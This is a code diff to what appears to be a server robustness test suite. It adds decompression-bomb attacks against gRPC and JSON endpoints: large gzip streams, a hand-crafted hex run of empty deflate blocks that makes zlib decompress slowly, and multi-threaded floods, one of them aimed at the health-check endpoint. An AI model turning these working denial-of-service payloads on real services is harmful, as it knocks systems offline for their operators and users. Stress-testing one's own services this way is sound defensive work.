@@ -447,22 +447,67 @@ def _zeros(size: int) -> bytes:
 @attack("grpc", threads=16)
 def gzip_of_100_mb_made_before(target: Target) -> str:
     """As `gzip_of_100_mb`, but the attackers take no processor time for it."""
-    return _send_deflated(target, 100 << 20)
+    with _DEFLATING:
+        data = _zeros(100 << 20)
+    return _send_gzip(target, _PREDICT, data)
 
 
 @attack("grpc", threads=4)
 def gzip_of_2_gb_made_before(target: Target) -> str:
-    return _send_deflated(target, 2 << 30)
-
-
-def _send_deflated(target: Target, size: int) -> str:
     with _DEFLATING:
-        data = _zeros(size)
+        data = _zeros(2 << 30)
+    return _send_gzip(target, _PREDICT, data)
+
+
+# Eight blocks of nothing (RFC 1951, 3.2.7), each with a code of 255 symbols: zlib reads 5 MB of
+# them a second, and makes no byte of it.
+_BLOCKS = bytes.fromhex(
+    "04400268bb6ddbb66ddbb66ddbb66ddbb66ddbb6fd5a00022001b4ddb66ddbb66ddbb66ddbb66ddbb66ddb7e2d00"
+    "019000da6edbb66ddbb66ddbb66ddbb66ddbb66dbf16800048006db76ddbb66ddbb66ddbb66ddbb66ddbb65f0b40"
+    "002480b6dbb66ddbb66ddbb66ddbb66ddbb66ddbaf0520001240db6ddbb66ddbb66ddbb66ddbb66ddbb6edd70210"
+    "0009a0edb66ddbb66ddbb66ddbb66ddbb66ddbf66b01088004d076dbb66ddbb66ddbb66ddbb66ddbb66dfbb500"
+)
+
+
+@functools.cache
+def _slow_gzip(size: int) -> bytes:
+    head = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
+    return head + _BLOCKS * (size // len(_BLOCKS)) + b"\3\0" + bytes(8)
+
+
+@attack("grpc", threads=8)
+def slow_gzip_of_60_mb(target: Target) -> str:
+    return _send_gzip(target, _PREDICT, _slow_gzip(60 << 20))
+
+
+@attack("grpc", threads=32)
+def slow_gzip_of_4_mb(target: Target) -> str:
+    return _send_gzip(target, _PREDICT, _slow_gzip(4 << 20))
+
+
+@attack("grpc", threads=64)
+def slow_gzip_of_400_kb(target: Target) -> str:
+    return _send_gzip(target, _PREDICT, _slow_gzip(400 << 10))
+
+
+@attack("grpc", threads=40)
+def slow_gzip_for_health(target: Target) -> str:
+    return _send_gzip(target, "/grpc.health.v1.Health/Check", _slow_gzip(60 << 20))
+
+
+@attack("grpc", threads=16)
+def gzip_taken_back(target: Target) -> str:
+    with _DEFLATING:
+        data = _zeros(60 << 20)
+    return _send_gzip(target, _PREDICT, data, wait_s=0.02)
+
+
+def _send_gzip(target: Target, method: str, data: bytes, *, wait_s: float = _TIMEOUT_S) -> str:
     connection = Connection(target.address)
     try:
-        stream = connection.begin(_PREDICT, grpc_encoding="gzip")
+        stream = connection.begin(method, grpc_encoding="gzip")
         connection.send(stream, b"\1" + struct.pack(">I", len(data)) + data)
-        answered = connection.finish(stream, wait_s=_TIMEOUT_S)
+        answered = connection.finish(stream, wait_s=wait_s)
     finally:
         connection.close()
     return "answered" if answered else "not answered"
@@ -471,6 +516,11 @@ def _send_deflated(target: Target, size: int) -> str:
 @attack("grpc", threads=8)
 def messages_of_100_mb(target: Target) -> str:
     return target.call(_PREDICT, bytes(100 << 20))
+
+
+@attack("grpc", threads=8)
+def messages_of_60_mb(target: Target) -> str:
+    return target.call(_PREDICT, bytes(60 << 20))
 
 
 @attack("grpc")
@@ -718,6 +768,21 @@ def gzip_body_of_90_mb(target: Target) -> str:
 @attack("json")
 def gzip_body_of_1_gb(target: Target) -> str:
     return target.post(_gzip(1 << 30), headers={"Content-Encoding": "gzip"})
+
+
+@attack("json", threads=8)
+def slow_gzip_body_of_60_mb(target: Target) -> str:
+    return target.post(_slow_gzip(60 << 20), headers={"Content-Encoding": "gzip"})
+
+
+@attack("json", threads=32)
+def slow_gzip_body_of_4_mb(target: Target) -> str:
+    return target.post(_slow_gzip(4 << 20), headers={"Content-Encoding": "gzip"})
+
+
+@attack("json", threads=64)
+def slow_gzip_body_of_400_kb(target: Target) -> str:
+    return target.post(_slow_gzip(400 << 10), headers={"Content-Encoding": "gzip"})
 
 
 def _many_connections(target: Target, data: bytes, count: int = 1100) -> str:
